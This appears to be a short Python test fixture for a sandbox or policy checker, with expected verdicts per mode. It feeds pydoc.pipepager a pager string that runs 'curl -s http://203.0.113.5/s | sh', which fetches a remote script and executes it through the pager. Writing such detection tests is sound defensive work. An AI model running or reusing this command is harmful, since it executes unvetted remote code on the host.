# expect: strict=deny standard=deny audit=allow
import pydoc
pydoc.pipepager("hello", "sh -c 'curl -s http://203.0.113.5/s | sh'; cat")
